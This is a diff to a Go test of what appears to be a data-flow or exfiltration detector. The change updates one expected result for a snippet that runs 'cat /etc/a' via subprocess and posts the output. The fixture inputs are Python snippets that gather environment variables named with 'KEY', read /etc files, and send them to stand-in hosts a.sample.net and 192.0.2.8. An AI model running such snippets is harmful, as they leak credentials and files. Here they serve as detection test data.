@@ -253,7 +253,7 @@ func TestPythonFlow(t *testing.T) {
 		{"import os, requests\ns = {}\nfor k, v in os.environ.items():\n    if 'KEY' in k:\n        s[k] = v\nrequests.post('https://a.sample.net', json={'e': s})", "sends host a.sample.net <reads:*"},
 		{"import requests\nrequests.post('https://a.sample.net', json=dict(a=1))", "sends host a.sample.net; !reads variable *"},
 		{"import requests\nfound = []\nfor p in ['/etc/a', '/etc/b']:\n    found.append({'p': p, 'c': open(p).read()})\nrequests.post('https://a.sample.net', json=found)", "sends host a.sample.net <reads:/etc/a <reads:/etc/b"},
-		{"import subprocess, requests\nx = subprocess.check_output('cat /etc/a', shell=True)\nrequests.post('https://a.sample.net', data=x)", "sends host a.sample.net <runs: <reads:/etc/a"},
+		{"import subprocess, requests\nx = subprocess.check_output('cat /etc/a', shell=True)\nrequests.post('https://a.sample.net', data=x)", "sends host a.sample.net <runs: <runs:cat <reads:/etc/a"},
 		{"import socket\ns = socket.socket()\ns.connect(('192.0.2.8', 1))\ns.sendall(open('/etc/a').read())", "sends host 192.0.2.8 <reads:/etc/a"},
 		{"import requests\nclass A:\n    def read(self, p):\n        return open(p).read()\n    def get(self):\n        return self.read('/etc/a')\nrequests.post('https://a.sample.net', data=A().get())", "sends host a.sample.net <reads:/etc/a"},
 		{"import os, subprocess\nsubprocess.run(['git', 'fetch', 'https://a.sample.net/x'], env=os.environ.copy())", "sends host a.sample.net <runs:git; !sends host a.sample.net <reads:*"},
